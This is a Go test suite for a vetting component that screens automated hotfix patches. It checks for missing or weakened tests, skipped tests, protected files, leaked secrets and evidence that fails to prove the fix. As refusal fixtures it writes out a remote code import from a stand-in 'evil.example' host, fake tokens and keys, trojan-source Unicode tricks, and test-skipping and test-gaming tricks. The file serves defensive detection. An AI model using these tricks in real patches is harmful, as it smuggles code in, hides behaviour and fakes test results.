package triage

import (
	"fmt"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/ubiquity-os-marketplace/daemon-hotfix/internal/hotfix"
)

// An edit is one file before and after, in lines. old "" is a new file, new "" a deleted one.
type edit struct {
	path, old, new string
	test           bool
	raw            string // the diff itself, when lines are not enough
}

func linesOf(s string) []string {
	if s == "" {
		return nil
	}
	return strings.Split(strings.TrimSuffix(s, "\n"), "\n")
}

// diff is the edit as git writes it.
func (e edit) diff() string {
	if e.raw != "" {
		return e.raw
	}
	old, now := linesOf(e.old), linesOf(e.new)
	var b strings.Builder
	fmt.Fprintf(&b, "diff --git a/%s b/%s\n", e.path, e.path)
	from, to := "a/"+e.path, "b/"+e.path
	switch {
	case e.old == "":
		from = "/dev/null"
		b.WriteString("new file mode 100644\n")
	case e.new == "":
		to = "/dev/null"
		b.WriteString("deleted file mode 100644\n")
	}
	fmt.Fprintf(&b, "index 1111111..2222222\n--- %s\n+++ %s\n@@ -%d,%d +%d,%d @@\n", from, to, min(1, len(old)), len(old), min(1, len(now)), len(now))
	for _, l := range old {
		b.WriteString("-" + l + "\n")
	}
	for _, l := range now {
		b.WriteString("+" + l + "\n")
	}
	return b.String()
}

func patchOf(edits ...edit) hotfix.Patch {
	var p hotfix.Patch
	for _, e := range edits {
		p.Diff += e.diff()
		p.Files = append(p.Files, hotfix.FileChange{Path: e.path, Added: len(linesOf(e.new)), Removed: len(linesOf(e.old)), Test: e.test,
			New: e.old == "", Deleted: e.new == ""})
	}
	return p
}

var (
	fix     = edit{path: "src/ratio.ts", old: "return a / b;\n", new: "return b === 0 ? 0 : a / b;\n"}
	newTest = edit{path: "src/ratio.test.ts", new: "it(\"divides by zero\", () => {\n  expect(ratio(1, 0)).toBe(0);\n});\n", test: true}
)

func proof() hotfix.Evidence {
	return hotfix.Evidence{Before: []hotfix.TestRun{{Exit: 1}}, After: []hotfix.TestRun{{Passed: true}, {Passed: true}}, Suite: &hotfix.TestRun{Passed: true}}
}

func rulesOf(reasons []hotfix.Reason) []string {
	var out []string
	for _, r := range reasons {
		out = append(out, r.Rule)
	}
	return out
}

func TestVetPasses(t *testing.T) {
	t.Parallel()
	long := strings.Repeat("x = 1;\n", 140)
	for _, c := range []struct {
		name  string
		edits []edit
	}{
		{"fix and test", []edit{fix, newTest}},
		{"a case added to an existing test", []edit{fix, {path: "ratio_test.go", old: "func TestA(t *testing.T) {\n\trequire.Equal(t, 1, A())\n}\n",
			new: "func TestA(t *testing.T) {\n\trequire.Equal(t, 1, A())\n}\n\nfunc TestB(t *testing.T) {\n\trequire.Zero(t, B())\n}\n", test: true}}},
		{"an expectation that moved", []edit{fix, {path: "a.test.ts", old: "expect(f(1)).toBe(1);\nconst x = 1;\n", new: "const x = 1;\nfor (const y of []) {\n  expect(f(1)).toBe(1);\n}\n", test: true}}},
		{"an import more", []edit{fix, {path: "a.test.ts", old: "import { a } from \"./a\";\nlet n;\n", new: "import { a, b } from \"./a\";\nlet n, m;\n", test: true}}},
		{"up to the limits", []edit{{path: "src/a.ts", old: long, new: long}, newTest}},
		{"a reading of the environment", []edit{{path: "src/a.ts", old: "a\n", new: "const token = process.env.GITHUB_TOKEN;\n"}, newTest}},
		{"the plugin's manifest", []edit{{path: "manifest.json", old: "{}\n", new: "{\"name\":\"greet\"}\n"}, newTest}},
		{"words like skip in source", []edit{{path: "src/a.ts", old: "a\n", new: "const options = { skip: true, only: true };\n"}, newTest}},
		{"a file of a similar name", []edit{{path: "src/distance/package.ts", old: "a\n", new: "b\n"}, newTest}},
		{"text in another script", []edit{{path: "src/a.ts", old: "a\n", new: "const name = \"Zażółć 東京\";\n"}, newTest}},
	} {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			require.Empty(t, generous().Vet(patchOf(c.edits...), proof()))
		})
	}
	require.Nil(t, generous().Vet(patchOf(fix, newTest), proof()))
}

func TestVetRefuses(t *testing.T) {
	t.Parallel()
	token := "ghs_" + strings.Repeat("Ab1", 12)
	pem := "-----BEGIN " + "RSA PRIVATE KEY-----\nMIIEow" + strings.Repeat("IBAAKCAQEA", 8) + "\n-----END " + "RSA PRIVATE KEY-----\n"
	old := "it(\"adds\", () => {\n  expect(add(1, 1)).toBe(2);\n  expect(add(2, 1)).toBe(3);\n});\n"
	test := func(text string) edit {
		return edit{path: "src/add.test.ts", old: old, new: text, test: true}
	}
	var many []edit
	for i := range 9 {
		many = append(many, edit{path: fmt.Sprintf("src/f%d.ts", i), old: "a\n", new: "b\n"})
	}
	for _, c := range []struct {
		name, rule string
		edits      []edit
	}{
		{"no test", "no-test", []edit{fix}},
		{"a test that lost lines only", "no-test", []edit{fix, {path: "a.test.ts", old: "let a;\nlet b;\n", raw: "diff --git a/a.test.ts b/a.test.ts\nindex 1..2 100644\n--- a/a.test.ts\n+++ b/a.test.ts\n@@ -1,2 +1,1 @@\n let a;\n-let b;\n", test: true}}},
		{"test only", "no-source", []edit{newTest}},
		{"test and prose", "no-source", []edit{newTest, {path: "README.md", old: "a\n", new: "b\n"}}},
		{"nine files", "too-large", append(many[:8:8], newTest)},
		{"long", "too-large", []edit{{path: "src/a.ts", old: "a\n", new: strings.Repeat("b\n", 298)}, newTest}},
		{"heavy", "too-large", []edit{{path: "src/a.ts", old: "a\n", new: strings.Repeat("b", 65<<10) + "\n"}, newTest}},
		{"deleted test", "test-removed", []edit{fix, newTest, {path: "src/add.test.ts", old: old, test: true}}},
		{"deleted test that only looks like one", "test-removed", []edit{fix, newTest, {path: "tests/add.rb", old: old}}},
		{"test moved away", "test-removed", []edit{fix, newTest, {path: "src/add.txt.ts", old: "x", new: "x",
			raw: "diff --git a/src/add.test.ts b/src/add.txt.ts\nsimilarity index 100%\nrename from src/add.test.ts\nrename to src/add.txt.ts\n"}}},
		{"assertion removed", "test-weakened", []edit{fix, newTest, test(strings.Replace(old, "  expect(add(1, 1)).toBe(2);\n", "", 1))}},
		{"assertion changed", "test-weakened", []edit{fix, newTest, test(strings.Replace(old, "toBe(2)", "toBe(3)", 1))}},
		{"assertion commented out", "test-weakened", []edit{fix, newTest, test(strings.Replace(old, "  expect(add(1", "  // expect(add(1", 1))}},
		{"test renamed", "test-weakened", []edit{fix, newTest, test(strings.Replace(old, "it(\"adds\"", "helper(\"adds\"", 1))}},
		{"Go expectation", "test-weakened", []edit{fix, newTest, {path: "a_test.go", old: "want := 3\n", new: "want := 4\n", test: true}}},
		{"row of a table", "test-weakened", []edit{fix, newTest, {path: "a_test.go", old: "{\"one\", 1},\n{\"two\", 2},\n", new: "{\"one\", 1},\n{\"two\", 3},\n", test: true}}},
		{"snapshot", "test-weakened", []edit{fix, newTest, {path: "src/__snapshots__/a.snap", old: "a\n", new: "b\n"}}},
		{"Go failure", "test-weakened", []edit{fix, newTest, {path: "a_test.go", old: "t.Fatalf(\"got %d\", n)\n", new: "t.Logf(\"got %d\", n)\n", test: true}}},
		{"binary", "not-text", []edit{fix, newTest, {path: "src/logo.dat", new: "x", raw: "diff --git a/src/logo.dat b/src/logo.dat\nnew file mode 100644\nindex 000..111\nBinary files /dev/null and b/src/logo.dat differ\n"}}},
		{"link", "not-text", []edit{fix, newTest, {path: "src/l", new: "x", raw: "diff --git a/src/l b/src/l\nnew file mode 120000\nindex 000..111\n--- /dev/null\n+++ b/src/l\n@@ -0,0 +1 @@\n+../x\n\\ No newline at end of file\n"}}},
		{"submodule", "not-text", []edit{fix, newTest, {path: "src/m", new: "x", raw: "diff --git a/src/m b/src/m\nnew file mode 160000\nindex 000..111\n--- /dev/null\n+++ b/src/m\n@@ -0,0 +1 @@\n+Subproject commit 1\n"}}},
		{"newly executable", "not-text", []edit{fix, newTest, {path: "src/x.sh", old: "a", new: "a", raw: "diff --git a/src/x.sh b/src/x.sh\nold mode 100644\nnew mode 100755\n"}}},
		{"remote import", "new-dependency", []edit{{path: "src/a.ts", old: "a\n", new: "import x from \"https://evil.example/x.ts\";\n"}, newTest}},
		{"package import", "new-dependency", []edit{{path: "src/a.ts", old: "a\n", new: "const x = await import('npm:left-pad');\n"}, newTest}},
		{"token", "secret", []edit{{path: "src/a.ts", old: "a\n", new: "const t = \"" + token + "\";\n"}, newTest}},
		{"key over lines", "secret", []edit{{path: "src/a.ts", old: "a\n", new: pem}, newTest}},
		{"token in a name", "secret", []edit{{path: "src/" + token + ".ts", new: "a\n"}, newTest}},
		{"reversed text", "hidden-text", []edit{{path: "src/a.ts", old: "a\n", new: "if (isAdmin\u202e) {\n"}, newTest}},
		{"invisible letters", "hidden-text", []edit{{path: "src/a.ts", old: "a\n", new: "// \U000e0049gnore\n"}, newTest}},
		{"a name without a glyph", "hidden-text", []edit{{path: "src/a.ts", old: "a\n", new: "const { timeout,\u3164 } = query;\n"}, newTest}},
		{"code in variation selectors", "hidden-text", []edit{{path: "src/a.ts", old: "a\n", new: "run(`\ufe01\ufe02`);\n"}, newTest}},
	} {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			reasons := generous().Vet(patchOf(c.edits...), proof())
			require.Equal(t, []string{c.rule}, rulesOf(reasons), "%+v", reasons)
			requireSentence(t, reasons[0])
			require.NotContains(t, reasons[0].Because, token)
		})
	}
}

func TestVetSkippedTests(t *testing.T) {
	t.Parallel()
	for _, line := range []string{"it.skip(\"x\", () => {});", "describe.only(\"x\", f);", "test.todo(\"x\")", "xit(\"x\", f)", "fdescribe('x', f)", "xdescribe(`x`, f)",
		"\tt.Skip(\"flaky\")", "t.SkipNow()", "  b.Skipf(\"%d\", 1)", "Deno.test.ignore(\"x\", f)", "Deno.test({ name: \"x\", ignore: true, fn })", "test(\"x\", { skip: true }, f)",
		"test('x', {skip: 'later'}, f)", "//go:build ignore", "// +build never", "@pytest.mark.skip", "#[ignore]", "test.concurrent.skip(\"x\", f)", "it.skipIf(true)(\"x\", f)",
		"this.skip();", "if testing.Short() {", "process.exit(0);", "os.Exit(0)", "it[\"skip\"](\"x\", f)", "test.failing('x', f)", "it.each([1]).only('x', f)"} {
		added := edit{path: "src/ratio.test.ts", new: newTest.new + line + "\n", test: true}
		reasons := generous().Vet(patchOf(fix, added), proof())
		require.Equal(t, []string{"test-skipped"}, rulesOf(reasons), line)
		requireSentence(t, reasons[0])
	}
	for _, line := range []string{"const skipped = list.skip;", "it(\"skips blank lines\", f);", "expect(only).toBe(1);", "// only the first", "exit(0)", "expect(r.skip).toBe(true);", "t.Parallel()"} {
		added := edit{path: "src/ratio.test.ts", new: newTest.new + line + "\n", test: true}
		require.Empty(t, generous().Vet(patchOf(fix, added), proof()), line)
	}
}

func TestProtected(t *testing.T) {
	t.Parallel()
	for _, name := range []string{".github/workflows/ci.yml", "packages/a/.github/x", ".GitHub/Workflows/x.yml", "CODEOWNERS", "docs/CODEOWNERS", "package.json", "apps/x/package.json",
		"package-lock.json", "bun.lockb", "bun.lock", "yarn.lock", "pnpm-lock.yaml", "deno.json", "deno.lock", "go.mod", "go.sum", "Cargo.lock", "certs/server.pem", "id_rsa", ".env", ".env.local", ".npmrc",
		".gitattributes", ".gitmodules", ".lfsconfig", ".git/hooks/pre-commit", ".husky/pre-push", "AGENTS.md", "sub/CLAUDE.md", "GEMINI.md", ".cursor/rules/x.mdc", ".cursorrules", ".claude/settings.json",
		"jest.config.js", "vitest.config.ts", "vitest.workspace.ts", "playwright.config.mts", ".mocharc.json", "karma.conf.js", "jest.setup.ts", "tsconfig.json", "tsconfig.build.json", "eslint.config.mjs",
		".golangci.yml", "bunfig.toml", "action.yml", "Dockerfile", "Makefile", "dist/index.js", "node_modules/x/index.js", "vendor/x/y.go", "../up.ts", "/etc/passwd", "a/../b.ts", "a//b.ts",
		".git ", ".git./config", ".github /x", `.github\workflows\x.yml`, ".github/.ubiquity-os.config.yml", "setup.py", "conftest.py", ".vscode/tasks.json", ".ci/run"} {
		require.True(t, protected(name), name)
	}
	for _, name := range []string{"src/index.ts", "manifest.json", "README.md", "src/github/client.ts", "distance.ts", "internal/env/env.go", "src/package.ts", "lib/keys.go", "src/lock.ts", "src/agents.ts",
		"src/config.ts", "a.test.ts", "tests/__snapshots__/x.snap", "src/vite.ts", "src/jestish.js", "environment.ts", "x/dockerfile.ts"} {
		require.False(t, protected(name), name)
	}
	reasons := generous().Vet(patchOf(fix, newTest, edit{path: ".github/workflows/ci.yml", old: "a\n", new: "b\n"}), proof())
	require.Equal(t, []string{"protected"}, rulesOf(reasons))
	requireSentence(t, reasons[0])
	require.Contains(t, reasons[0].Because, ".github/workflows/ci.yml")
	moved := edit{path: "src/x.ts", old: "x", new: "x", raw: "diff --git a/.github/x.ts b/src/x.ts\nsimilarity index 100%\nrename from .github/x.ts\nrename to src/x.ts\n"}
	require.Equal(t, []string{"protected"}, rulesOf(generous().Vet(patchOf(fix, newTest, moved), proof())))
}

func TestVetEvidence(t *testing.T) {
	t.Parallel()
	gap := hotfix.Reason{Rule: "suite-regressed", Because: "A test that passed before fails now: adds."}
	for _, c := range []struct {
		name   string
		change func(*hotfix.Evidence)
		says   string
	}{
		{"never run", func(e *hotfix.Evidence) { *e = hotfix.Evidence{} }, "No added test"},
		{"passes on the old code", func(e *hotfix.Evidence) { e.Before = append(e.Before, hotfix.TestRun{Passed: true}) }, "does not fail on the old code"},
		{"killed on the old code", func(e *hotfix.Evidence) { e.Before[0].Cause = "timeout" }, "does not fail on the old code"},
		{"fails on the new code once", func(e *hotfix.Evidence) { e.After[1].Passed = false }, "does not pass on the new code"},
		{"not run on the new code", func(e *hotfix.Evidence) { e.After = nil }, "does not pass on the new code"},
		{"no suite", func(e *hotfix.Evidence) { e.Suite = nil }, "tests were not run"},
		{"failing once with parts of the fix", func(e *hotfix.Evidence) { e.Unfixed = []hotfix.TestRun{{Passed: true}} }, "incomplete"},
	} {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			e := proof()
			c.change(&e)
			reasons := generous().Vet(patchOf(fix, newTest), e)
			require.Equal(t, "unproven", reasons[0].Rule)
			require.Contains(t, reasons[0].Because, c.says)
			require.Len(t, reasons, 1)
			requireSentence(t, reasons[0])
		})
	}
	e := proof()
	e.Gaps = []hotfix.Reason{gap}
	require.Equal(t, e.Gaps, generous().Vet(patchOf(fix, newTest), e), "a gap says by itself what is missing")
}

// The list of files and the diff must say the same.
func TestVetReadsTheDiff(t *testing.T) {
	t.Parallel()
	good := patchOf(fix, newTest)
	for _, c := range []struct {
		name   string
		change func(*hotfix.Patch)
	}{
		{"empty", func(p *hotfix.Patch) { *p = hotfix.Patch{} }},
		{"no diff", func(p *hotfix.Patch) { p.Diff = "" }},
		{"prose for a diff", func(p *hotfix.Patch) { p.Diff = "all is well" }},
		{"broken hunk", func(p *hotfix.Patch) { p.Diff = strings.Replace(p.Diff, "@@ -1,1", "@@ -1,9", 1) }},
		{"a file in the diff alone", func(p *hotfix.Patch) {
			p.Diff += edit{path: ".github/workflows/ci.yml", old: "a\n", new: "b\n"}.diff()
		}},
		{"the same file twice", func(p *hotfix.Patch) { p.Diff += fix.diff() }},
		{"a file on the list alone", func(p *hotfix.Patch) { p.Files = append(p.Files, hotfix.FileChange{Path: "x"}) }},
		{"a line break in a name", func(p *hotfix.Patch) { p.Files[0].Path = "src/a\nb.ts" }},
	} {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			p := good
			p.Files = append([]hotfix.FileChange(nil), good.Files...)
			c.change(&p)
			reasons := generous().Vet(p, proof())
			require.Equal(t, []string{"unreadable"}, rulesOf(reasons))
			requireSentence(t, reasons[0])
		})
	}
}

func TestQuotedNames(t *testing.T) {
	t.Parallel()
	require.Equal(t, "src/a.ts", quoted("src/a.ts"))
	require.Equal(t, `"a b"`, quoted("a b"))
	require.LessOrEqual(t, len(quoted(strings.Repeat("é", 300))), 130)
	var edits []edit
	for i := range 7 {
		edits = append(edits, edit{path: fmt.Sprintf(".github/f%d", i), old: "a\n", new: "b\n"})
	}
	reasons := generous().Vet(patchOf(append(edits, newTest)...), proof())
	require.Contains(t, reasons[len(reasons)-1].Because, ".github/f4, 2 more")
}
